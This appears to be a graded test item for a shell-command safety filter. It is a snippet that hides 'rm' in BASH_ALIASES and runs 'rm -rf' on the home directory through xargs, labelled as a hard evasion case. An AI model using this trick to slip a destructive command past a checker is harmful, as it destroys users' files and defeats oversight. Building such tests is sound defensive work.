# evasion: the command name is stored in BASH_ALIASES as data and handed to xargs, which runs it on the home directory
# grade: hard; does: delete
BASH_ALIASES[tidy]=rm
find ~ -maxdepth 0 -print0 | xargs -0 "${BASH_ALIASES[tidy]}" -rf --
